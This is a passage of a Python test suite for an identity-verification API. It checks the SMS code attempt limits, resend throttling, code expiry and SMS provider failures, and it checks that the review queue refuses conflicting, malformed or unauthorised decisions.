    assert r.json() == {**r.json(), "verified": False, "result": "too_many_attempts"}
    r = phone.confirm(code)  # the right code is no use once the attempts are spent
    assert r.json()["verified"] is False and r.json()["result"] == "too_many_attempts"
    assert _challenge(platform, phone.id)["attempts"] == 5
    assert flow.get(phone.id)["phone_verified"] is False
    # A new code would buy five more guesses: no resend once the attempts are spent.
    _age_code(platform, phone.id, timedelta(minutes=1))
    with unchanged():
        problem(phone.send(), 429, "rate-limited")


def test_malformed_code_is_refused_without_counting(
    flow: Flow, platform: Platform, unchanged: Any
) -> None:
    phone = PhoneApi(flow, flow.create()["id"])
    phone.send()
    with unchanged():
        for code in ("12345", "1234567", "12a456", ""):
            problem(phone.confirm(code), 422, "validation", "#/code")
        r = flow.client.post(
            phone.base + "/confirm", headers=flow.tenant.headers, json={"code": 123456}
        )
        problem(r, 422, "validation", "#/code")
    assert _challenge(platform, phone.id)["attempts"] == 0


def test_resend_too_soon_then_allowed_then_capped(
    flow: Flow, platform: Platform, unchanged: Any
) -> None:
    phone = PhoneApi(flow, flow.create()["id"])
    first = phone.send()
    assert first.status_code == 202 and first.json()["sends_left"] == 2
    assert first.json()["resend_after_seconds"] == 30
    old_code = phone.code()
    with unchanged():
        r = phone.send()
    problem(r, 429, "rate-limited")
    assert phone.sent() == 1
    _age_code(platform, phone.id, timedelta(seconds=31))
    second = phone.send()
    assert second.status_code == 202 and second.json()["sends_left"] == 1
    assert second.json()["challenge_id"] == first.json()["challenge_id"]
    assert phone.sent() == 2
    new_code = phone.code()
    if new_code != old_code:  # the new code replaces the old one
        assert phone.confirm(old_code).json()["result"] == "wrong_code"
    _age_code(platform, phone.id, timedelta(seconds=31))
    assert phone.send().json()["sends_left"] == 0
    _age_code(platform, phone.id, timedelta(seconds=31))
    with unchanged():
        problem(phone.send(), 429, "rate-limited")
    assert phone.sent() == 3
    assert phone.confirm(phone.code()).json()["verified"] is True


def test_expired_code(flow: Flow, platform: Platform) -> None:
    phone = PhoneApi(flow, flow.create()["id"])
    phone.send()
    _age_code(platform, phone.id, timedelta(minutes=5))
    r = phone.confirm(phone.code())
    assert r.status_code == 200 and r.json()["verified"] is False
    assert r.json()["result"] == "expired"
    assert flow.get(phone.id)["phone_verified"] is False


def test_send_when_verified_or_not_editable(
    flow: Flow, client: TestClient, tenant: TenantHandle, unchanged: Any
) -> None:
    a = flow.create()
    flow.verify_phone(a["id"])
    phone = PhoneApi(flow, a["id"])
    with unchanged():
        problem(phone.send(), 409, "invalid-state")
    applicant_id, _ = in_review(flow, client, tenant, 2)
    with unchanged():
        problem(PhoneApi(flow, applicant_id).send(), 409, "invalid-state")


def test_sms_rejected_number(flow: Flow, unchanged: Any) -> None:
    phone = PhoneApi(flow, flow.create(profile={"phone": "+8613800130000"})["id"])
    with unchanged():
        r = phone.send()
    body = problem(r, 422, "validation", "#/profile/phone")
    assert body["errors"][0]["code"] == "sms_rejected"
    with unchanged():
        problem(phone.confirm("123456"), 409, "invalid-state")  # no challenge was kept


def test_sms_unavailable(flow: Flow, unchanged: Any) -> None:
    phone = PhoneApi(flow, flow.create(profile={"phone": "+8613800130503"})["id"])
    with unchanged():
        problem(phone.send(), 503, "unavailable")
        problem(phone.confirm("123456"), 409, "invalid-state")


class DeliveredThenTimedOut:
    """An SMS provider that delivers the next message but whose answer never arrives."""

    def __init__(self, inner: Any) -> None:
        self.inner, self.armed = inner, False

    def send(self, *, to: str, text: str, idempotency_key: str) -> SmsReceipt:
        receipt: SmsReceipt = self.inner.send(to=to, text=text, idempotency_key=idempotency_key)
        if self.armed:
            self.armed = False
            raise SmsUnavailable("timed out after delivery")
        return receipt

    def __getattr__(self, name: str) -> Any:
        return getattr(self.inner, name)


def test_resend_retried_after_a_provider_timeout(
    flow: Flow, platform: Platform, unchanged: Any
) -> None:
    """A resend that timed out is rolled back; retrying it sends a new code, which must not
    reuse the idempotency key of the message that may have gone out (the provider would
    answer with the old message, or refuse)."""
    phone = PhoneApi(flow, flow.create()["id"])
    gateway = DeliveredThenTimedOut(platform.kyc.sms)
    platform.kyc.sms = gateway  # type: ignore[assignment]
    assert phone.send().status_code == 202
    _age_code(platform, phone.id, timedelta(seconds=31))
    gateway.armed = True
    with unchanged():
        problem(phone.send(), 503, "unavailable")
    retry = phone.send()
    assert retry.status_code == 202, retry.text
    assert phone.confirm(phone.code()).json()["verified"] is True


# ---------------------------------------------------------------------------------------------
# Review queue


def test_review_decisions_refused(
    flow: Flow, client: TestClient, platform: Platform, tenant: TenantHandle, unchanged: Any
) -> None:
    applicant_id, rid = in_review(flow, client, tenant, 3)
    url = f"/v1/reviews/{rid}"
    other = second_key(client, tenant, "kyc:review")
    approve = {"decision": "approve", "reason": "documents fine"}
    state = review_state(platform, rid)

    with unchanged():  # decide without a claim
        problem(
            client.post(url + "/decision", headers=tenant.headers, json=approve), 409, "conflict"
        )
    assert review_state(platform, rid) == state

    assert client.post(url + "/claim", headers=tenant.headers).status_code == 200
    state = review_state(platform, rid)
    with unchanged():  # someone else's claim: neither claim it nor decide it
        problem(client.post(url + "/claim", headers=other), 409, "conflict")
        problem(client.post(url + "/decision", headers=other, json=approve), 409, "conflict")
    with unchanged():  # malformed decisions
        for body, pointer in [
            ({"decision": "resubmit", "reason": "blurry photo"}, "#/steps"),
            ({"decision": "resubmit", "reason": "blurry photo", "steps": []}, "#/steps"),
            ({"decision": "resubmit", "reason": "blurry", "steps": ["face"]}, "#/steps/0"),
            ({"decision": "maybe", "reason": "not sure"}, "#/decision"),
            ({"decision": "approve"}, "#/reason"),
            ({"decision": "approve", "reason": "  ok  "}, "#/reason"),
            ({"decision": "approve", "reason": "x" * 1001}, "#/reason"),
            ({**approve, "approved_by": "boss"}, "#/approved_by"),
        ]:
            r = client.post(url + "/decision", headers=tenant.headers, json=body)
            problem(r, 422, "validation", pointer)
    assert review_state(platform, rid) == state
    assert flow.get(applicant_id)["status"] == "in_review"

    r = client.post(url + "/decision", headers=tenant.headers, json=approve)
    assert r.status_code == 200 and r.json()["status"] == "decided"
    state = review_state(platform, rid)
    with unchanged():  # a decided review is closed
        reject = {"decision": "reject", "reason": "changed my mind"}
        problem(
            client.post(url + "/decision", headers=tenant.headers, json=reject),
            409,
            "invalid-state",
        )
        problem(client.post(url + "/claim", headers=tenant.headers), 409, "invalid-state")
        problem(client.post(url + "/claim", headers=other), 409, "invalid-state")
    assert review_state(platform, rid) == state
    assert flow.get(applicant_id)["status"] == "approved"


def test_review_needs_the_review_scope(
    flow: Flow, client: TestClient, platform: Platform, tenant: TenantHandle, unchanged: Any
) -> None:
    _, rid = in_review(flow, client, tenant, 4)
    writer = second_key(client, tenant, "kyc:write")
    with unchanged():
        problem(client.get(f"/v1/reviews/{rid}", headers=writer), 403, "forbidden")
        problem(client.post(f"/v1/reviews/{rid}/claim", headers=writer), 403, "forbidden")
        r = client.post(
            f"/v1/reviews/{rid}/decision",
            headers=writer,
            json={"decision": "approve", "reason": "fine"},
        )
        problem(r, 403, "forbidden")
